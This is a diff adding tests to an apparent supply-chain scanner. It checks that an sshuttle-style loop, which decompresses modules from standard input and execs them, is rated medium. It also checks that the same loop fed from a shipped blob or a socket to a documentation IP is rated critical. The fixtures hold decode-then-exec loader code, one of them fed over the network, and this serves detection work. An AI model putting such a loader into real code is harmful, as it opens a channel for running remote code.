@@ -13,7 +13,7 @@ import hashlib
 from app.core.archive import open_artifact
 from app.core.capabilities.scan import scan_artifact
 from tests.core.archive.fixtures import wheel_entries, zip_bytes
-from tests.core.capabilities.variant_scan import HIGH, scan
+from tests.core.capabilities.variant_scan import HIGH, scan, subfolder
 
 # ---------------------------------------------------------------- RECORD and native libraries
 # A fat wheel merging one build per platform (aws-psycopg2) lists only the first build's
@@ -184,3 +184,37 @@ def test_a_helper_that_also_fetches_its_text_is_still_exec_of_remote_code(tmp_pa
     assert "place.install_time" in {t.id for t in res.threats if t.severity in HIGH}
     runs = [h.rule for h in res.findings if h.path == "setup.py" and h.line == 18]
     assert runs and "py.exec_local_file" not in runs, runs
+
+
+# ---------------------------------------------------------------- modules fed over standard input
+# sshuttle's server half is piped to the remote Python over ssh; it then reads each further
+# module, compressed, from standard input and runs it. Nobody feeds an import or an install.
+ASSEMBLER = """import sys, types, zlib
+
+z = zlib.decompressobj()
+while 1:
+    name = sys.stdin.buffer.readline().strip().decode("ascii")
+    if not name:
+        break
+    nbytes = int(sys.stdin.buffer.readline())
+    content = z.decompress({source})
+    module = types.ModuleType(name)
+    exec(compile(content, name, "exec"), module.__dict__)
+    sys.modules[name] = module
+"""
+
+
+def test_modules_decompressed_from_standard_input_and_run_are_not_a_payload(tmp_path):
+    module = ASSEMBLER.format(source="sys.stdin.buffer.read(nbytes)")
+    res = scan({"relay/__init__.py": "", "relay/assembler.py": module}, tmp_path)
+    assert res.risk.level not in HIGH, [(t.id, t.severity) for t in res.threats]
+    runs = [h for h in res.findings if h.capability == "exec.decode_then_exec"]
+    assert runs and {h.severity for h in runs} == {"medium"}
+
+
+def test_the_same_loop_over_a_shipped_blob_or_a_socket_stays_critical(tmp_path):
+    for i, source in enumerate(("open('relay/blob.bin', 'rb').read(nbytes)", "sock.recv(nbytes)")):
+        module = "import socket\nsock = socket.create_connection(('192.0.2.3', 80))\n"
+        module += ASSEMBLER.format(source=source)
+        res = scan({"relay/__init__.py": "", "relay/assembler.py": module}, subfolder(tmp_path, str(i)))
+        assert res.risk.level == "critical", source
